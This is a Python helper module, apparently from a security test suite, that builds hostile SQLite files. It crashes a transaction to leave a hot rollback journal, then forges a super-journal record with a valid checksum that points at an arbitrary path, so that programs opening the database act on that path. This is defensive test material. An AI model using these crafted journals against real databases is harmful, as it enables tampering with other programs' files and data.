"""What a service can write into its files to harm the programs that read them."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

__all__ = ["CRASH", "crash_in_a_transaction", "name_super_journal"]

# Ends without a commit after its cache was written to the file: the journal is hot. The cache of 10 pages is too small
# for the transaction.
CRASH = """
import os, sqlite3, sys
database = sqlite3.connect(sys.argv[2], isolation_level=None)
database.execute(f"PRAGMA journal_mode = {sys.argv[1]}")
database.execute("PRAGMA cache_size = 10")
database.execute("BEGIN IMMEDIATE")
database.execute("UPDATE accounts SET balance = 0")
database.execute("CREATE TABLE filler(x)")
database.executemany("INSERT INTO filler VALUES (randomblob(3000))", [()] * 400)
os._exit(0)
"""


def crash_in_a_transaction(database: Path, mode: str = "delete") -> None:
    """Leave a hot journal, as a service does that crashes in a transaction."""
    subprocess.run([sys.executable, "-c", CRASH, mode, str(database)], check=True, timeout=60)
    assert Path(f"{database}-journal").stat().st_size > 512


def name_super_journal(database: Path, path: Path) -> None:
    """Let the journal of ``database`` name ``path`` as its super-journal, with a valid checksum."""
    name = os.fsencode(path)
    checksum = sum(byte - 256 if byte > 127 else byte for byte in name) & 0xFFFFFFFF  # signed characters
    with Path(f"{database}-journal").open("ab") as file:
        file.write((0x40000000 // 4096 + 1).to_bytes(4, "big") + name + len(name).to_bytes(4, "big"))
        file.write(checksum.to_bytes(4, "big") + bytes.fromhex("d9d505f920a163d7"))
